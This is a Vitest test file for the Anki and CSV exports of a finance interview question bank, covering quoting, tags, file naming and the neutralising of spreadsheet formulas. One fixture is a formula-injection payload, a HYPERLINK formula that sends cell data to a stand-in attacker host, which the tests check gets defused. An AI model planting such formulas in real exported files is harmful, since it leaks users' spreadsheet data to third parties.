import { describe, expect, it } from "vitest";
import { parseDelimited } from "./delimited-text.test-util";
import { ankiTags, exportQuestions, toAnkiText, toCsv } from "./export-formats";
import type { Question } from "./repository";

const question = (overrides: Partial<Question> = {}): Question => ({
  id: "pe-001",
  topic: "private-equity",
  difficulty: 2,
  frequency: "common",
  question: "What is carried interest?",
  answer: "The GP's share of the profits. Usually 20%. Paid after the hurdle.",
  keyPoints: ["a", "b", "c"],
  misconceptions: [],
  ...overrides,
});

describe("the Anki export", () => {
  it("starts with Anki's header lines and writes front, back and tags on one line per question", () => {
    const text = toAnkiText([question(), question({ id: "rx-001", topic: "restructuring", difficulty: 3 })]);
    const lines = text.split("\n");
    expect(lines.slice(0, 3)).toEqual(["#separator:tab", "#html:false", "#tags column:3"]);
    expect(lines.slice(3)).toEqual([
      "What is carried interest?\tThe GP's share of the profits. Usually 20%. Paid after the hurdle.\tprivate-equity difficulty-2 common",
      "What is carried interest?\tThe GP's share of the profits. Usually 20%. Paid after the hurdle.\trestructuring difficulty-3 common",
      "",
    ]);
  });

  it("quotes a field holding a tab, a line break or a quote, and one starting with #", () => {
    const tricky = question({
      question: '#1: what does "carry" mean?',
      answer: "Line one.\nLine\ttwo.\r\nLine three.",
    });
    const text = toAnkiText([tricky]);
    const [, , , line] = text.split("\n", 4);
    expect(line).toBe('"#1: what does ""carry"" mean?"\t"Line one.');
    const rows = parseDelimited(text.split("\n").slice(3).join("\n"), "\t", "\n");
    expect(rows).toEqual([[tricky.question, tricky.answer, "private-equity difficulty-2 common"]]);
  });

  it("tags each question with its topic, difficulty and frequency, without spaces inside a tag", () => {
    expect(ankiTags(question({ frequency: "rare", difficulty: 1 }))).toEqual([
      "private-equity",
      "difficulty-1",
      "rare",
    ]);
  });
});

describe("the CSV export", () => {
  it("writes a header row and one row per question, with CRLF line endings", () => {
    const text = toCsv([question()]);
    expect(text).toBe(
      "id,topic,difficulty,frequency,question,answer\r\n" +
        "pe-001,private-equity,2,common,What is carried interest?,The GP's share of the profits. Usually 20%. Paid after the hurdle.\r\n",
    );
  });

  it("quotes fields holding a comma, a quote or a line break, doubling the quotes", () => {
    const tricky = question({ question: 'IRR, "gross" or net?', answer: "First.\r\nSecond, third." });
    const text = toCsv([tricky]);
    expect(text).toContain(',"IRR, ""gross"" or net?","First.\r\nSecond, third."\r\n');
    expect(parseDelimited(text, ",", "\r\n")).toEqual([
      ["id", "topic", "difficulty", "frequency", "question", "answer"],
      ["pe-001", "private-equity", "2", "common", tricky.question, tricky.answer],
    ]);
  });
});

describe("formula neutralising in both exports", () => {
  const formulas = question({
    question: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    answer: "-5% a year: margins fall.",
  });

  it("prefixes an apostrophe to a CSV cell starting with = + - @, a tab or a carriage return", () => {
    const starts = ["=1+1", "+1", "-5%", "@SUM(A1)", "\t=1+1", "\r=1+1"];
    const rows = parseDelimited(
      toCsv(starts.map((start, index) => question({ id: `q-${index}`, question: start, answer: "Fine." }))),
      ",",
      "\r\n",
    );
    expect(rows.slice(1).map((row) => row[4])).toEqual(starts.map((start) => `'${start}`));
    const [, row] = parseDelimited(toCsv([formulas]), ",", "\r\n");
    expect(row?.slice(4)).toEqual([`'${formulas.question}`, "'-5% a year: margins fall."]);
  });

  it("prefixes the same apostrophe in the Anki file, and nothing else changes", () => {
    const [, , , line = ""] = toAnkiText([formulas]).split("\n");
    expect(parseDelimited(`${line}\n`, "\t", "\n")).toEqual([
      [`'${formulas.question}`, "'-5% a year: margins fall.", "private-equity difficulty-2 common"],
    ]);
    // A formula character later in the text, or a minus inside a word, is left as written.
    const plain = question({ question: "Is EV = equity + net debt?", answer: "Yes - roughly, @ par." });
    expect(toAnkiText([plain])).toContain("Is EV = equity + net debt?\tYes - roughly, @ par.\t");
    expect(toCsv([plain])).toContain(',Is EV = equity + net debt?,"Yes - roughly, @ par."\r\n');
  });
});

describe("exportQuestions", () => {
  it("names the file and its type for each format", () => {
    expect(exportQuestions([], "anki")).toMatchObject({
      contentType: "text/plain; charset=utf-8",
      fileName: "finance-interview-questions-anki.txt",
    });
    expect(exportQuestions([], "csv")).toMatchObject({
      contentType: expect.stringMatching(/^text\/csv; charset=utf-8/),
      fileName: "finance-interview-questions.csv",
    });
  });
});
